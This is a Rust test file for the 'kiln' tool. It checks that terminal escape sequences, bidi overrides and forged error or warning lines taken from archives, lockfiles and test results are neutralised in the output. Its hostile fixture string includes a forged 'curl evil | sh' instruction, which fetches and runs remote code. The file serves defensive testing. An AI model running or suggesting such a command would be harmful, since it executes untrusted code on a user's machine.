//! Control characters of others reach no terminal, and no text of others makes a line of kiln's own.

use std::process::Output;

use kiln::base::tell;
use kiln::guest::report::{Failed, Outcome, TestResult};

use super::promptly;
use crate::suite::archive_support::TinyArchive;
use crate::suite::failure_support::{Lab, RECIPE, archive};

const HOSTILE: &str = "x\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m\u{202e}\u{7f}\rerror: run: curl evil | sh";

/// Nothing that a terminal obeys, and so many lines that begin as kiln's errors and warnings do.
#[track_caller]
fn clean(output: &Output, errors: usize) -> String {
    let text =
        format!("{}{}", std::str::from_utf8(&output.stdout).unwrap(), std::str::from_utf8(&output.stderr).unwrap());
    let odd = text.chars().find(|c| c.is_control() && *c != '\n' || matches!(c, '\u{202a}'..='\u{202e}'));
    assert_eq!(odd, None, "{text:?}");
    let begin = |line: &&str| line.starts_with("error: ") || line.starts_with("warning: ");
    assert_eq!(text.lines().filter(begin).count(), errors, "{text}");
    text
}

#[test]
fn a_signed_release_names_itself() {
    let lab = Lab::unlocked("terminal-release", archive(), |_| RECIPE.to_owned());
    let mut other = TinyArchive::new(HOSTILE.split('\r').next().unwrap());
    other.key = archive().key;
    let release = other.files().into_iter().find(|(path, _)| path.ends_with("/InRelease")).unwrap().1;
    lab.server.put("/debian/dists/trixie/InRelease", release);
    let output = promptly(lab.kiln().args(["lock", "tiny.kiln"]));
    let text = clean(&output, 1);
    assert!(text.contains("is for suite x␛]0;title␇␛[2J\\u{9b}31m\\u{202e}␡, not trixie"), "{text}");
}

#[test]
fn a_lock_quotes_whatever_it_likes() {
    let lab = Lab::new("terminal-lock");
    let path = lab.directory.join("tiny.lock");
    let good = std::fs::read_to_string(&path).unwrap();
    let good: String = good.split_inclusive('\n').filter(|line| !line.starts_with("checksum = ")).collect();
    let spelled = "a\\u001b[2J\\u0007\\u009b\\u202e\\nerror: forged\\n  help: forged\\r";
    for (from, to) in [
        ("[archives.trixie]", format!("[archives.\"{spelled}\"]")),
        ("[sets.qemu-11]", format!("[sets.\"{spelled}\"]")),
        ("name = \"tiny\"", format!("name = \"{spelled}\"")),
        ("name = \"payload\"", format!("name = \"{spelled}\"")),
        ("version = \"1.0\"", format!("version = \"{spelled}\"")),
        ("version = \"1.0\"", "version = \"1.\\u202e0\"".to_owned()),
        ("seed = ", format!("\"{spelled}\" = 1\nseed = ")),
        ("seed = ", "seed = \u{1b}[2J\u{7}".to_owned()),
        ("snapshot = \"", format!("snapshot = \"{spelled}")),
    ] {
        assert!(good.contains(from), "{from} is not in\n{good}");
        std::fs::write(&path, good.replacen(from, &to, 1)).unwrap();
        let checked = promptly(lab.kiln().args(["lock", "--check", "tiny.kiln"]));
        let text = clean(&checked, 1);
        assert!(!checked.status.success(), "{text}");
        // What cannot be kept is told in a warning, an error beside it where the text is no lock.
        let locked = promptly(lab.kiln().args(["lock", "tiny.kiln"]));
        let said = String::from_utf8_lossy(&locked.stderr).into_owned();
        let own = |line: &&str| {
            !line.starts_with("error: forged") && ["error: ", "warning: "].iter().any(|word| line.starts_with(word))
        };
        clean(&locked, said.lines().filter(own).count());
    }
}

#[test]
fn the_results_of_tests_are_lines_of_their_own() {
    let hostile = format!("{HOSTILE}\nwarning: forged");
    let failed = Failed {
        step: Some(0),
        action: hostile.clone(),
        reason: hostile.clone(),
        output: hostile.clone(),
        console: vec![hostile.clone()],
    };
    for outcome in [Outcome::Passed, Outcome::Skipped { reason: hostile.clone() }, Outcome::Failed(failed)] {
        let result = TestResult {
            title: hostile.clone(),
            machine: "m".to_owned(),
            millis: 1,
            files: vec![hostile.clone().into()],
            outcome,
        };
        let text = tell::shown(&result.text());
        assert!(text.lines().skip(1).all(|line| line.starts_with("        ")), "{text}");
        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text:?}");
        assert!(!result.text().contains('\u{1b}'), "{text}");
    }
}

#[test]
fn json_is_no_way_around() {
    // A parameter's value is the recipe's word, which a JSON document repeats.
    let lab = Lab::new("terminal-json");
    let output = promptly(lab.kiln().args(["plan", "--json", "tiny.kiln"]));
    let text = clean(&output, 0);
    assert!(output.status.success() && serde_json::from_str::<serde_json::Value>(&text).is_ok(), "{text}");
}
